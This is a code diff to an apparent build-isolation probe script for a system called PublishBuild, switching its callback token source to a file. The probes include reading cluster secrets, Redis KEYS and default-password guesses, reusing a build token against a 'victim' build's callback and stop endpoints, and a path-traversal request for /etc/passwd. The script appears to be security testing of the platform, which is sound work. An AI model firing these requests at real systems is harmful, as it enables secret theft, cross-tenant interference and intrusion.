@@ -70,6 +70,7 @@ def fields_of_the_queue(url: str) -> str:
 def main(redis: str, victim: str, metrics: str) -> dict[str, str]:
     """Each attempt and its outcome."""
     own = os.environ["PUBLISHBUILD_CALLBACK_URL"]
+    shown = pathlib.Path(os.environ["PUBLISHBUILD_CALLBACK_TOKEN_FILE"]).read_text()
     operator = own.split("/v1/")[0]
     host, port = operator.removeprefix("http://").split(":")
     report = b'{"stage": "clone"}'
@@ -80,14 +81,16 @@ def main(redis: str, victim: str, metrics: str) -> dict[str, str]:
         "capabilities": capabilities(),
         "api-secrets": http(f"{api}/api/v1/secrets"),
         "api-builds": http(f"{api}/apis/publishbuild.dev/v1alpha1/publishbuilds"),
+        "callback-at-api": http(f"{api}/version", token=shown),
+        "callback-own": http(own, body=b'{"message": "here"}', token=shown),
         "redis-open": talk(redis, 6379, "KEYS *\r\n"),
         "redis-default": talk(redis, 6379, "AUTH default guess\r\n"),
-        "callback-victim": http(victim, body=report, token=os.environ["PUBLISHBUILD_CALLBACK_TOKEN"]),
+        "callback-victim": http(victim, body=report, token=shown),
         "callback-no-token": http(own, body=report),
-        "stop-victim": http(f"{victim}/stop", token=os.environ["PUBLISHBUILD_CALLBACK_TOKEN"]),
+        "stop-victim": http(f"{victim}/stop", token=shown),
         "stop-no-token": http(f"{own}/stop"),
-        "callback-huge": http(own, body=b"x" * 100_000, token=os.environ["PUBLISHBUILD_CALLBACK_TOKEN"]),
-        "callback-junk": http(own, body=b'{"stage": ', token=os.environ["PUBLISHBUILD_CALLBACK_TOKEN"]),
+        "callback-huge": http(own, body=b"x" * 100_000, token=shown),
+        "callback-junk": http(own, body=b'{"stage": ', token=shown),
         "traversal": talk(host, int(port), "GET /v1/builds/../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n").split()[1],
         "callback-metrics": http(f"{operator}/metrics"),
         "callback-queue": http(f"{operator}/v1/queue"),
